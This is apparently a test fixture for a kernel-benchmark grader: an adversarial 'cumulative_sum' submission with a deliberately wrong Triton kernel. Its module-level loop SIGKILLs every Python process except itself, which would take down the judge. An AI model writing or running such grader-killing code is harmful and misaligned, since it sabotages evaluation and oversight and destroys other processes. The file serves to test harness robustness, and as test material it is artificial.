"""Kills everything whose command line says python, as `pkill -f python` does, except itself.

row: 78
problem: core/cumulative_sum
expect: incorrect
layer: judge
"""

import os
import signal

import torch
import triton
import triton.language as tl
from torch import nn


@triton.jit
def wrong_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask)
    tl.store(out_ptr + offsets, x * 0.5, mask=mask)


def launch_wrong(x):
    out = torch.empty_like(x)
    wrong_kernel[(triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), BLOCK=1024)
    return out


for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as command:
                if b"python" in command.read():
                    os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor):
        return launch_wrong(x)
